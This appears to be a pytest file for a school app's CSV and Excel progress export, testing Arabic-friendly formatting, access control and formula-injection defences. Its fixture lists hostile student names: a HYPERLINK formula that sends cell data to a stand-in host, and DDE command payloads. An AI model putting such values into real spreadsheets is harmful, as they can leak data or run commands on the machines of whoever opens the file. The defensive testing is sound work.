"""The teacher's progress download: opens in columns in Excel on Arabic and French Windows (CSV with
a BOM and `;`, or a workbook), and no student's name is ever run as a formula."""
import csv
import io

import pytest
from openpyxl import load_workbook

from kit_server.spreadsheet import ExcelSemicolon, neutralise

from ..conftest import make_student, post_form

HOSTILE_NAMES = ('=HYPERLINK("http://evil.example/?"&A1,"click me")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
                 "-1+1", "@SUM(1+1)")


@pytest.fixture
def hostile_class(app, school):
    for name in HOSTILE_NAMES:
        make_student(school["class"], name=name)
    return school


def _csv(client, school):
    response = client.get(f"/teacher/classes/{school['class'].id}/progress.csv")
    assert response.status_code == 200
    return response


def test_the_csv_opens_in_columns_with_arabic_names(client, login_as, hostile_class, assigned):
    login_as("teacher")
    response = _csv(client, hostile_class)
    assert response.mimetype == "text/csv" and response.mimetype_params["charset"] == "utf-8"
    assert "attachment" in response.headers["Content-Disposition"]
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8, not the ANSI code page
    text = raw.decode("utf-8-sig")
    assert text.splitlines()[0].count(";") == 8 and "\r\n" in text
    sniffed = csv.Sniffer().sniff(text.splitlines()[0])
    assert sniffed.delimiter == ";"
    rows = list(csv.DictReader(io.StringIO(text), dialect=ExcelSemicolon))
    assert len(rows[0]) == 9 and None not in rows[0]  # every row splits into the nine columns
    assert any(r["student_name"] == "ليلى" for r in rows)


def test_names_that_look_like_formulas_come_out_as_text(client, login_as, hostile_class, assigned):
    login_as("teacher")
    rows = list(csv.DictReader(io.StringIO(_csv(client, hostile_class).get_data().decode("utf-8-sig")),
                               dialect=ExcelSemicolon))
    names = {r["student_name"] for r in rows}
    for name in HOSTILE_NAMES:
        assert "'" + name in names and name not in names
    for row in rows:  # no cell at all starts a formula
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


def test_the_workbook_has_the_same_rows_with_names_as_text(client, login_as, hostile_class, assigned):
    login_as("teacher")
    csv_rows = list(csv.DictReader(io.StringIO(_csv(client, hostile_class).get_data().decode("utf-8-sig")),
                                   dialect=ExcelSemicolon))
    response = client.get(f"/teacher/classes/{hostile_class['class'].id}/progress.xlsx")
    assert response.status_code == 200 and response.headers["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    table = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert table[0] == list(csv_rows[0])
    assert len(table) - 1 == len(csv_rows)
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    names = {c.value for c in cells if c.column == 2}
    assert set(HOSTILE_NAMES) <= names  # shown as typed ...
    assert all(c.data_type != "f" for c in cells)  # ... and never a formula
    assert {c.data_type for c in cells if c.column == 1} == {"n"}  # ids stay numbers


def test_the_download_links_are_on_the_progress_page(client, login_as, school, assigned):
    login_as("teacher")
    html = client.get(f"/teacher/classes/{school['class'].id}/progress").get_data(as_text=True)
    assert f"/teacher/classes/{school['class'].id}/progress.csv" in html
    assert f"/teacher/classes/{school['class'].id}/progress.xlsx" in html


def test_another_teacher_gets_no_workbook(client, login_as, school):
    login_as("other_teacher")
    assert client.get(f"/teacher/classes/{school['class'].id}/progress.xlsx").status_code == 404


def test_neutralise_leaves_numbers_and_plain_text_alone():
    assert neutralise(-1) == -1 and neutralise(3.5) == 3.5 and neutralise(None) is None
    assert neutralise("ليلى") == "ليلى" and neutralise("Anne-Marie") == "Anne-Marie"
    assert neutralise("-Anne") == "'-Anne" and neutralise("@x") == "'@x"
    assert neutralise("\tx") == "'\tx" and neutralise("\rx") == "'\rx"  # names are stripped, but cells may not be


def test_a_name_typed_on_the_roster_form_is_neutralised_too(client, login_as, school, assigned):
    login_as("teacher")
    roster = f"/teacher/classes/{school['class'].id}"
    post_form(client, roster, {"display_name": "=1+1", "sex": "not_stated", "secret_kind": "pin"}, token_from=roster)
    rows = list(csv.DictReader(io.StringIO(_csv(client, school).get_data().decode("utf-8-sig")), dialect=ExcelSemicolon))
    assert "'=1+1" in {r["student_name"] for r in rows}
